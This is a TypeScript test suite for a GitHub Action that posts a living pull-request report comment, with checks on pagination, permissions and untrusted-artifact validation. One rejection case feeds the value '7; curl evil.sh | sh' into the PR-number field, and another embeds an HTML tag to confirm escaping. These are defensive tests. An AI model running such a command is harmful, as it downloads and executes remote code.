/**
 * pr-report run as the runner runs it, against the GitHub REST double: one living
 * comment (created once, then PATCHed even behind 75 other comments spread over several
 * Link-paginated pages), outputs and job summary, a 403 naming the missing permission,
 * and an untrusted artifact refused before anything is posted.
 */
import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { GitHubDouble } from './github-double.ts';
import { runAction, type ActionEnv } from './run-action.ts';
import { buildArtifact, HEAD_SHA } from './fixtures.ts';
import { COMMENT_MARKER, MAX_COMMENT_CHARS } from '../../actions/pr-report/comment.ts';
import { readReportArtifact } from '../../actions/common/report-artifact.ts';
import { METRIC_NAMES } from '../../pipeline/core/index.ts';

let artifact: string;
let gh: GitHubDouble;

beforeAll(async () => {
  artifact = (await buildArtifact()).dir;
});

beforeEach(async () => {
  gh = new GitHubDouble({ maxPerPage: 25 });
  await gh.start();
  gh.addPull(7, HEAD_SHA);
});

afterEach(async () => {
  await gh.close();
});

/** The privileged pr-comment.yml run: a workflow_run event for the ci run that uploaded the artifact. */
function workflowRunEnv(reportDir: string, inputs: Record<string, string> = {}): ActionEnv {
  return {
    event: 'workflow_run',
    payload: {
      action: 'completed',
      workflow_run: { id: 4242, head_sha: HEAD_SHA, event: 'pull_request', conclusion: 'success', pull_requests: [] },
      repository: { full_name: 'acme/credit-model' },
    },
    apiUrl: gh.url,
    runId: 5151,
    inputs: { 'report-dir': reportDir, 'github-token': 'ghs_test', ...inputs },
  };
}

function copyArtifact(edit?: (dir: string) => void): string {
  const dir = join(mkdtempSync(join(tmpdir(), 'artifact-')), 'report');
  cpSync(artifact, dir, { recursive: true });
  edit?.(dir);
  return dir;
}

function editJson(dir: string, file: string, fn: (v: Record<string, unknown>) => void): void {
  const p = join(dir, file);
  const v = JSON.parse(readFileSync(p, 'utf8')) as Record<string, unknown>;
  fn(v);
  writeFileSync(p, JSON.stringify(v));
}

describe('pr-report action', () => {
  it('creates one comment on the first run, then updates it in place behind 75 other comments', async () => {
    const first = await runAction('pr-report', workflowRunEnv(artifact));
    expect(first.code, first.stdout + first.stderr).toBe(0);
    expect(first.outputs['comment-action']).toBe('created');
    expect(gh.comments.get(7)).toHaveLength(1);
    const id = Number(first.outputs['comment-id']);
    expect(gh.comments.get(7)![0].id).toBe(id);
    expect(gh.comments.get(7)![0].body.startsWith(COMMENT_MARKER)).toBe(true);
    expect(gh.requestsMatching('POST', '/issues/7/comments')).toHaveLength(1);
    // The PR number came from the artifact: the action checked that PR's head first.
    expect(gh.requestsMatching('GET', '/pulls/7')).toHaveLength(1);

    // A busy PR: 75 comments by people, including one that quotes the marker, come first.
    const ours = gh.comments.get(7)!.splice(0, 1)[0];
    for (let i = 0; i < 75; i++)
      gh.addComment(7, i === 10 ? `quoting ${COMMENT_MARKER}` : `review comment ${i}`, `reviewer${i % 3}`);
    gh.comments.get(7)!.push(ours);
    gh.requests.length = 0;

    const second = await runAction('pr-report', workflowRunEnv(artifact));
    expect(second.code, second.stdout + second.stderr).toBe(0);
    expect(second.outputs['comment-action']).toBe('updated');
    expect(Number(second.outputs['comment-id'])).toBe(id);
    expect(gh.comments.get(7)).toHaveLength(76);
    expect(gh.requestsMatching('POST', '/comments')).toHaveLength(0);
    const patches = gh.requestsMatching('PATCH', `/issues/comments/${id}`);
    expect(patches).toHaveLength(1);
    expect((patches[0].body as { body: string }).body).toContain(COMMENT_MARKER);
    // 76 comments at 25 per page: every page was walked by following the Link headers.
    const pages = gh.requestsMatching('GET', '/issues/7/comments').map((r) => r.query.page ?? '1');
    expect(pages).toEqual(['1', '2', '3', '4']);
    // The reviewer's comment that quotes the marker is never edited.
    expect(gh.comments.get(7)![10].body).toBe(`quoting ${COMMENT_MARKER}`);
    expect(gh.requests.every((r) => r.authorization === 'token ghs_test')).toBe(true);
  });

  it('writes the comment to the job summary and sets its outputs', async () => {
    const r = await runAction('pr-report', workflowRunEnv(artifact));
    expect(r.code, r.stdout + r.stderr).toBe(0);
    const body = gh.comments.get(7)![0].body;
    expect(r.summary).toContain(body.trim());
    expect(Number(r.outputs['body-length'])).toBe(body.length);
    expect(body.length).toBeLessThan(MAX_COMMENT_CHARS);
    expect(r.outputs.decision).toBe('keep');
    expect(r.outputs['comment-url']).toMatch(/#issuecomment-\d+$/);
    // What a reviewer needs, in one comment.
    for (const part of [
      'Keep champion v1',
      'Champion vs challenger',
      'Confusion matrices at the threshold',
      'Expected cost per applicant',
      'Overfitting',
      'Schema changes',
      'Training time',
      'Lint score',
      '9.40/10',
      'Tests',
      'xychart-beta',
      'full report',
    ]) {
      expect(body).toContain(part);
    }
    // The failed test's name came from the artifact: no raw HTML, no @-mention survives.
    expect(body).toContain('b breaks &lt;img src=x&gt; @\u200bocto');
    expect(body).toContain('https://github.test/acme/credit-model/actions/runs/4242');
  });

  it('fails with the missing permission named when GitHub answers 403', async () => {
    gh.failWith.set('POST comments', 403);
    const r = await runAction('pr-report', workflowRunEnv(artifact));
    expect(r.code).toBe(1);
    expect(r.errors.join('\n')).toContain('pull-requests: write');
    expect(r.errors.join('\n')).toContain('HTTP 403');
    expect(gh.comments.get(7) ?? []).toHaveLength(0);
  });

  it('names the permission when updating is refused too', async () => {
    const first = await runAction('pr-report', workflowRunEnv(artifact));
    expect(first.code).toBe(0);
    gh.failWith.set('PATCH comments', 403);
    const r = await runAction('pr-report', workflowRunEnv(artifact));
    expect(r.code).toBe(1);
    expect(r.errors.join('\n')).toMatch(/update comment \d+ .*pull-requests: write/s);
  });

  it('posts from a pull_request event too (same-repository PR with a write token)', async () => {
    const r = await runAction('pr-report', {
      event: 'pull_request',
      payload: { action: 'synchronize', number: 7, pull_request: { number: 7, head: { sha: HEAD_SHA } } },
      apiUrl: gh.url,
      inputs: { 'report-dir': artifact, 'github-token': 'ghs_test' },
    });
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.outputs['comment-action']).toBe('created');
  });

  it('only writes the summary for a push report and in summary mode, without calling the API', async () => {
    const pushReport = copyArtifact((d) =>
      editJson(d, 'context.json', (c) => ((c.event = 'push'), (c.pull_request = null))),
    );
    const push = await runAction('pr-report', {
      event: 'push',
      payload: { ref: 'refs/heads/main', after: HEAD_SHA },
      sha: HEAD_SHA,
      apiUrl: gh.url,
      inputs: { 'report-dir': pushReport, 'github-token': 'ghs_test' },
    });
    expect(push.code, push.stdout + push.stderr).toBe(0);
    expect(push.outputs['comment-action']).toBe('skipped');
    expect(push.summary).toContain(COMMENT_MARKER);
    const summaryOnly = await runAction('pr-report', {
      event: 'workflow_dispatch',
      payload: { inputs: { engine: 'logistic', 'dry-run': 'true' } },
      apiUrl: gh.url,
      inputs: { 'report-dir': artifact, mode: 'summary' },
    });
    expect(summaryOnly.code, summaryOnly.stdout + summaryOnly.stderr).toBe(0);
    expect(summaryOnly.outputs['comment-action']).toBe('skipped');
    expect(gh.requests).toHaveLength(0);
  });

  it('says "running" for the checks workflow, then updates the same comment with its results', async () => {
    // The report artifact of the train job alone: typecheck, tests and lint score run elsewhere.
    const report = copyArtifact((d) => (rmSync(join(d, 'lint-score.json')), rmSync(join(d, 'test-results.json'))));
    const checksDir = copyArtifact((d) => {
      for (const f of ['context.json', 'run.json', 'verdict.json', 'comparison.json', 'model.json']) rmSync(join(d, f));
    });
    const jobs = (status: string, conclusion: string | null) =>
      ['typecheck', 'test', 'lint'].map((name) => ({ name, status, conclusion }));
    gh.runs.set(6161, {
      id: 6161,
      head_sha: HEAD_SHA,
      status: 'in_progress',
      conclusion: null,
      html_url: 'https://github.test/acme/credit-model/actions/runs/6161',
      jobs: [{ name: 'typecheck', status: 'completed', conclusion: 'success' }, ...jobs('in_progress', null).slice(1)],
    });
    const inputs = { 'checks-run-id': '6161', 'checks-dir': checksDir };
    const first = await runAction('pr-report', workflowRunEnv(report, inputs));
    expect(first.code, first.stdout + first.stderr).toBe(0);
    const running = gh.comments.get(7)![0].body;
    expect(running).toContain('still running; this comment is updated when they finish');
    expect(running).toContain('**typecheck** ✅ passed · **test** ⏳ running · **lint** ⏳ running');
    expect(running).toContain('**Tests**: ⏳ running');
    expect(running).toContain('**Lint score**: ⏳ running');
    expect(running).not.toContain('9.40/10');

    gh.runs.set(6161, {
      ...gh.runs.get(6161)!,
      status: 'completed',
      conclusion: 'failure',
      jobs: jobs('completed', 'success'),
    });
    gh.runs.get(6161)!.jobs[1].conclusion = 'failure';
    const second = await runAction('pr-report', workflowRunEnv(report, inputs));
    expect(second.code, second.stdout + second.stderr).toBe(0);
    expect(second.outputs['comment-action']).toBe('updated');
    expect(gh.comments.get(7)).toHaveLength(1);
    const done = gh.comments.get(7)![0].body;
    expect(done).toContain('**typecheck** ✅ passed · **test** ❌ failure · **lint** ✅ passed');
    expect(done).not.toContain('running');
    expect(done).toContain('9.40/10');
    expect(done).toContain('b breaks &lt;img src=x&gt; @\u200bocto');
  });

  it('refuses a checks run of another commit', async () => {
    gh.runs.set(6262, {
      id: 6262,
      head_sha: 'e'.repeat(40),
      status: 'completed',
      conclusion: 'success',
      html_url: 'https://github.test/acme/credit-model/actions/runs/6262',
      jobs: [],
    });
    const r = await runAction('pr-report', workflowRunEnv(artifact, { 'checks-run-id': '6262' }));
    expect(r.code).toBe(1);
    expect(r.errors.join('\n')).toContain('input "checks-run-id": run 6262 built eeee');
    expect(gh.requestsMatching('POST', '/comments')).toHaveLength(0);
  });

  it('does not post when the pull request has moved on to another commit', async () => {
    gh.addPull(7, 'f'.repeat(40));
    const r = await runAction('pr-report', workflowRunEnv(artifact));
    expect(r.code).toBe(0);
    expect(r.outputs['comment-action']).toBe('skipped');
    expect(r.warnings.join('\n')).toContain('has moved on');
    expect(gh.requestsMatching('POST', '/comments')).toHaveLength(0);
  });

  describe('treats the artifact as untrusted', () => {
    // Checks made by the entry point itself (repository, head): run as the runner would.
    const actionCases: [string, (d: string) => void, RegExp][] = [
      [
        'a PR number that is not a number',
        (d) => editJson(d, 'context.json', (c) => (c.pull_request = '7; curl evil.sh | sh')),
        /context\.json is invalid:[\s\S]*\/pull_request/,
      ],
      [
        'another repository',
        (d) => editJson(d, 'context.json', (c) => (c.repository = 'evil/repo')),
        /is for evil\/repo, not this repository/,
      ],
      [
        'a head the uploading run did not build',
        (d) => editJson(d, 'context.json', (c) => (c.head_sha = 'd'.repeat(40))),
        /the workflow run that uploaded it built/,
      ],
    ];
    for (const [what, edit, message] of actionCases) {
      it(`rejects ${what} before calling GitHub`, async () => {
        const r = await runAction('pr-report', workflowRunEnv(copyArtifact(edit)));
        expect(r.code).toBe(1);
        expect(r.errors.join('\n')).toMatch(message);
        expect(gh.requests).toHaveLength(0);
      });
    }
    // Schema and consistency checks of the artifact reader, in-process.
    const readerCases: [string, (d: string) => void, RegExp][] = [
      [
        'a negative PR number',
        (d) => editJson(d, 'context.json', (c) => (c.pull_request = -1)),
        /context\.json is invalid:[\s\S]*\/pull_request/,
      ],
      [
        'malformed JSON',
        (d) => writeFileSync(join(d, 'verdict.json'), '{"decision": "promote",'),
        /verdict\.json: malformed JSON/,
      ],
      [
        'a verdict with an unknown decision',
        (d) => editJson(d, 'verdict.json', (v) => (v.decision = 'merge-and-deploy')),
        /verdict\.json is invalid:[\s\S]*\/decision: must be one of/,
      ],
      [
        'a verdict for another model',
        (d) =>
          editJson(
            d,
            'verdict.json',
            (v) => ((v.challenger as { digest: string }).digest = 'sha256:' + '1'.repeat(64)),
          ),
        /verdict\.json is for model/,
      ],
      ['a missing comparison', (d) => writeFileSync(join(d, 'comparison.json'), 'null'), /comparison\.json is invalid/],
      [
        'an oversized free-text field',
        (d) => editJson(d, 'verdict.json', (v) => (v.summary = 'x'.repeat(5000))),
        /\/summary: must NOT have more than 1000 characters/,
      ],
      [
        'a ROC curve with the wrong number of points',
        (d) => editJson(d, 'comparison.json', (c) => (c.challenger as { roc_tpr: number[] }).roc_tpr.pop()),
        /roc_tpr must have one value per/,
      ],
      ['a missing required file', (d) => rmSync(join(d, 'run.json')), /has no run\.json/],
      [
        'a lint score above 10',
        (d) => editJson(d, 'lint-score.json', (l) => (l.score = 11)),
        /lint-score\.json is invalid:[\s\S]*\/score/,
      ],
    ];
    for (const [what, edit, message] of readerCases) {
      it(`rejects ${what}`, () => {
        expect(() => readReportArtifact(copyArtifact(edit))).toThrow(message);
      });
    }
    it('accepts the artifact the train step wrote', () => {
      expect(readReportArtifact(artifact).context.pull_request).toBe(7);
    });
    it('accepts metrics that are undefined on one-class rows (recall and F1 are null there), and wants every one the core computes', () => {
      const oneClass = copyArtifact((d) =>
        editJson(d, 'comparison.json', (c) => {
          const m = (c.challenger as { metrics: Record<string, unknown> }).metrics;
          for (const k of ['recall', 'f1', 'roc_auc', 'pr_auc', 'ks', 'gini']) m[k] = null;
        }),
      );
      expect(readReportArtifact(oneClass).context.pull_request).toBe(7);
      for (const name of METRIC_NAMES) {
        const missing = copyArtifact((d) =>
          editJson(
            d,
            'comparison.json',
            (c) => delete (c.challenger as { metrics: Record<string, unknown> }).metrics[name],
          ),
        );
        expect(() => readReportArtifact(missing)).toThrow(new RegExp(`comparison\\.json is invalid[\\s\\S]*${name}`));
      }
    });
  });

  it('validates its inputs with messages that name them', async () => {
    const noDir = await runAction('pr-report', { ...workflowRunEnv(''), inputs: { 'github-token': 'x' } });
    expect(noDir.code).toBe(1);
    expect(noDir.errors.join('\n')).toContain('input "report-dir" is required');
    const badMode = await runAction('pr-report', workflowRunEnv(artifact, { mode: 'tweet' }));
    expect(badMode.errors.join('\n')).toContain('input "mode" must be one of "comment", "summary"');
  });
});
